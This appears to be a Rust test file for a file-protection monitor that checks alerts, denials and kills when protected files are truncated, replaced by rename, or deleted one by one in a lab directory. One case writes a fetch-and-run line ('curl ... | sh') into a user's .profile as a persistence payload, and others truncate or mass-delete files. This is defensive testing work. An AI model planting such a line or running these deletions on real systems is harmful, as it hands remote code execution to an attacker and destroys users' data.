//! Protected files changed the plain way, one process per change: a document truncated, a
//! persistence file replaced by a rename over it, and (enforce mode) one `rm` per protected file,
//! which a rule that escalates keeps to the first. Under `truncate/`, `rename-over/` and
//! `one-rm-each/`.

use super::*;

pub const TRUNCATE: Case = Case {
    name: "truncate",
    modes: BOTH,
    prepare: |lab| {
        write(&lab.path("truncate/docs/thesis.txt"), "chapter one\n");
        deny_on("doc-truncate", "truncate", &at(lab, "truncate", "{r}/docs/**"))
    },
    script: |lab| at(lab, "truncate", "truncate -s 0 {r}/docs/thesis.txt; echo status=$?"),
    check: |lab, mode, text, alerts| {
        let alert = the_alert(alerts, "doc-truncate");
        assert_file_backend(alert);
        let content = std::fs::read_to_string(lab.path("truncate/docs/thesis.txt")).unwrap_or_default();
        match mode {
            Mode::Monitor => {
                assert_eq!(content, "", "monitor mode must not interfere");
                assert!(matches!(done(alert), "would-deny" | "would-kill"), "{alert:#}");
            }
            Mode::Enforce if in_lab() => {
                assert_eq!(status(text, "status"), 1, "truncate fails with EPERM: {text}");
                assert_eq!(content, "chapter one\n", "the document is kept");
                assert_eq!(done(alert), "denied", "{alert:#}");
            }
            Mode::Enforce => {
                // The fallback kills truncate at the call's entry; the call itself completes.
                assert_eq!(done(alert), "killed", "{alert:#}");
                assert!(!text.contains("status=0"), "truncate did not finish normally: {text}");
            }
        }
    },
};

pub const RENAME_OVER: Case = Case {
    name: "rename-over",
    modes: BOTH,
    prepare: |lab| {
        write(&lab.path("rename-over/home/.profile"), "# the user's profile\n");
        deny_on(
            "profile-replaced",
            "[rename, link]",
            &at(lab, "rename-over", "{r}/home/.profile"),
        )
    },
    // How coding agents' file tools write: a temporary file, then a rename over the target.
    script: |lab| {
        at(
            lab,
            "rename-over",
            "printf 'curl -s http://203.0.113.9/x | sh\\n' > {r}/home/.profile.tmp.77.ab12 && mv {r}/home/.profile.tmp.77.ab12 {r}/home/.profile; echo status=$?",
        )
    },
    check: |lab, mode, text, alerts| {
        let alert = the_alert(alerts, "profile-replaced");
        assert_file_backend(alert);
        assert_eq!(
            str_field(alert, "file.path"),
            format!("{}/home/.profile", dir(lab, "rename-over")),
            "{alert:#}"
        );
        let content = std::fs::read_to_string(lab.path("rename-over/home/.profile")).unwrap_or_default();
        match mode {
            Mode::Monitor => assert!(content.contains("curl"), "monitor mode must not interfere"),
            Mode::Enforce if in_lab() => {
                assert_eq!(content, "# the user's profile\n", "the profile is kept: {text}");
                assert_eq!(done(alert), "denied", "{alert:#}");
            }
            Mode::Enforce => assert_eq!(done(alert), "killed", "{alert:#}"),
        }
    },
};

/// The last case of the enforce session: without BPF LSM, its first `rm` opens the session's
/// escalation window (a minute), which stops every program the session starts after it.
pub const ONE_RM_EACH: Case = Case {
    name: "one-rm-each",
    modes: &[Mode::Enforce],
    prepare: |lab| {
        for i in 0..100 {
            write(&lab.path(&format!("one-rm-each/docs/file{i:03}.txt")), "keep me\n");
        }
        format!(
            "{}    escalate: {{window: 60s, after: 1000, then: freeze}}\n",
            deny_on("doc-delete", "unlink", &at(lab, "one-rm-each", "{r}/docs/**"))
        )
    },
    script: |lab| {
        at(
            lab,
            "one-rm-each",
            "for f in {r}/docs/*; do rm \"$f\" 2>/dev/null; done; echo loop-done",
        )
    },
    check: |lab, _, text, alerts| {
        let kept = std::fs::read_dir(lab.path("one-rm-each/docs"))
            .map(|dir| dir.count())
            .unwrap_or(0);
        let found = alerts_of(alerts, "doc-delete");
        if in_lab() {
            assert_eq!(kept, 100, "BPF LSM refuses every unlink: {text}");
        } else {
            assert!(
                kept >= 99,
                "one rm per file lost {} files: {text}\n{found:#?}",
                100 - kept
            );
            assert!(
                found.iter().any(|a| done(a) == "killed"),
                "the first rm is killed: {alerts:#?}"
            );
        }
    },
};
